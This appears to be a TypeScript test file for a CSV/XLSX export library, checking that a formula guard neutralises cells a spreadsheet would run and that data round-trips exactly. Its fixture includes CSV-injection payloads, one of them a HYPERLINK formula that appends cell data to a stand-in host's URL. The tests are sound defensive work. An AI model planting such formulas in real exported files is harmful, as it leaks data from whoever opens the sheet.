import { describe, expect, it } from 'vitest';
import { seededRandom } from '../encoding/testing/mutate.ts';
import { guardFormula, unguardFormula } from './formula-guard.ts';
import { readTable } from './read-table.ts';
import { writeCsv } from './write-csv.ts';
import { writeXlsx } from './write-xlsx.ts';

const NASTY = [
  ['source', 'target', 'comment'],
  ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3'],
  ['@SUM(A1)', '\t=1', '\r=1'],
  ["'=1", "''=1", "'quoted'"],
  ['＝1', '\n=2', "'"],
  ['a "b", c; d\te', ' spaced ', 'two\r\nlines\nand\rmore'],
  ['_x0041_', 'ä 漢字 😀 \u2028', '-Xms512m'],
  ['007', '1e5', 'TRUE'],
];

async function readBack(bytes: Uint8Array): Promise<string[][]> {
  return (await readTable(bytes)).rows.map(({ cells }) => cells);
}

describe('formula guard', () => {
  it.each(['=1', '+1', '-1', '@a', '\t=1', '\r=1', '\n=1', '＝1', "'=1", "''@"])(
    'guards %j reversibly',
    (cell) => {
      expect(guardFormula(cell)).toBe(`'${cell}`);
      expect(unguardFormula(guardFormula(cell))).toBe(cell);
    },
  );

  it.each(['a=1', "'tis", "'", '', ' =1', '1-2'])('leaves %j unchanged', (cell) => {
    expect(guardFormula(cell)).toBe(cell);
    expect(unguardFormula(cell)).toBe(cell);
  });
});

describe('writeCsv', () => {
  it('writes no cell that a spreadsheet reads as a formula', () => {
    const text = Buffer.from(
      writeCsv([
        ['=1+1', 'a'],
        ['-1', '\t=1'],
      ]),
    ).toString();
    expect(text).toBe("\uFEFF'=1+1,a\r\n'-1,'\t=1\r\n");
  });

  it.each([',', ';', '\t'] as const)('reads back cells written with delimiter %j', async (delimiter) => {
    expect(await readBack(writeCsv(NASTY, { delimiter }))).toEqual(NASTY);
  });

  it('reads back any cells', async () => {
    const random = seededRandom(7);
    const pieces = ['"', ',', ';', '\t', '\n', '\r', "'", '=', '-', 'a', 'é', ' ', '|', '😀', '_x0009_'];
    const cell = () =>
      Array.from({ length: random() * 6 }, () => pieces[Math.floor(random() * pieces.length)]).join('');
    for (let round = 0; round < 100; round++) {
      const rows = Array.from({ length: 5 }, () => ['x', cell(), cell(), 'y']);
      const table = await readTable(writeCsv(rows), { delimiter: ',' });
      expect(table.rows.map(({ cells }) => cells)).toEqual(rows);
      expect(await readBack(writeXlsx(rows))).toEqual(rows);
    }
  });
});

describe('writeXlsx', () => {
  it('writes every cell as text that reads back the same', async () => {
    expect(await readBack(writeXlsx(NASTY))).toEqual(NASTY);
  });

  it('writes the same bytes for the same rows', () => {
    expect(writeXlsx(NASTY)).toEqual(writeXlsx(NASTY));
  });

  it('makes a valid sheet name', async () => {
    const { sheet } = await readTable(
      writeXlsx([['a']], { sheet_name: 'A/B: [C] & <D> and much more than is allowed' }),
    );
    expect(sheet).toBe('A B   C  & <D> and much more th');
  });

  it('puts cells beyond Z in their column', async () => {
    const row = Array.from({ length: 60 }, (_, index) => `c${index}`);
    expect(await readBack(writeXlsx([row]))).toEqual([row]);
  });

  it('rejects a cell that Excel would truncate', () => {
    expect(() => writeXlsx([['a'.repeat(40_000)]])).toThrow(
      'Row 1: Excel holds at most 32,767 characters in a cell.',
    );
  });
});
